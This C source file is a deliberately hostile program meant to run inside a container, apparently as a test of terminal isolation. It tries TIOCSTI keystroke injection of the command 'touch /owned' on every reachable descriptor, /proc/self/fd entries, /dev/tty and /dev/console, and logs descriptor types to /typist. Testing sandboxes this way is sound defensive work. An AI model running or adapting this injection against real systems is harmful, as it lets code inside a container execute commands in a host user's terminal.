/* A hostile program inside a container: it tries to type into every terminal that it can reach, by
 * its descriptors, /dev/tty and all of /proc/self/fd. Then it says what its descriptors are, and
 * ends. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

static void type_into(int fd)
{
    for (const char *p = "touch /owned\n"; fd >= 0 && *p; p++)
        ioctl(fd, TIOCSTI, p);
}

int main(void)
{
    FILE *out = fopen("/typist", "w");
    for (int fd = 0; fd < 64; fd++) {
        char path[64];
        struct stat st;
        if ((out && fd == fileno(out)) || fstat(fd, &st))
            continue;
        if (out)
            fprintf(out, "%d %s %d\n", fd,
                    S_ISCHR(st.st_mode)    ? "terminal"
                    : S_ISFIFO(st.st_mode) ? "pipe"
                                           : "other",
                    (int)st.st_dev);
        type_into(fd);
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        int again = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
        type_into(again);
        if (again >= 0)
            close(again);
    }
    type_into(open("/dev/tty", O_RDWR | O_NOCTTY));
    type_into(open("/dev/console", O_RDWR | O_NOCTTY | O_NONBLOCK));
    if (out)
        fclose(out);
    return 0;
}
